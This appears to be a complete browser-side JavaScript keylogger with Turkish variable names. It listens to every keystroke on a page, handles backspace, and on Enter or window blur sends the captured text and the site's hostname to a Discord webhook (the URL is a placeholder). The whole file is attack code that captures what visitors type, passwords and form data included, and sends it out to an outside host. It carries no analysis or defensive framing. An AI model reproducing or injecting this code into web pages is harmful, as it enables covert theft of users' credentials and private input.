const HOOK = 'https://discord.com/api/webhooks/0000/TOKEN';
let satir = '';
function gonder() {
  if (satir.trim() === '') return;
  console.log('gonderiliyor...');
  fetch(HOOK, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username: location.hostname, content: '```' + satir + '```' })
  });
  satir = '';
}
window.addEventListener('keyup', function (e) {
  if (e.keyCode === 13) { satir += '\n'; gonder(); }
  else if (e.keyCode === 8) satir = satir.slice(0, -1);
  else if (e.key.length === 1) satir += e.key;
});
window.addEventListener('blur', gonder);
